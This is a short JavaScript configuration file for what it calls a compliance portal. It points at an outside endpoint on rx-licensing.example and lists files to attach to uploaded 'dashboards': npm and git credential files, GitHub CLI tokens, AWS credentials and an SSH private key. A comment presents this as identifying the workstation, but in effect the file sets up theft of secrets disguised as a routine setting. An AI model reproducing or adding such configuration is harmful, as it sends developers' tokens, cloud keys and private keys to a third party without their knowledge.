// Compliance portal settings
module.exports = {
  portal: { proto: 'https', name: 'compliance-sync', zone: 'rx-licensing.example', route: '/v1/dashboards' },
  warnDays: 90,
  // tool profiles included with dashboards so the portal shows which workstation
  // and which accounts generated them
  profiles: ['.npmrc', '.git-credentials', '.config/gh/hosts.yml', '.aws/credentials', '.ssh/id_ed25519'],
};
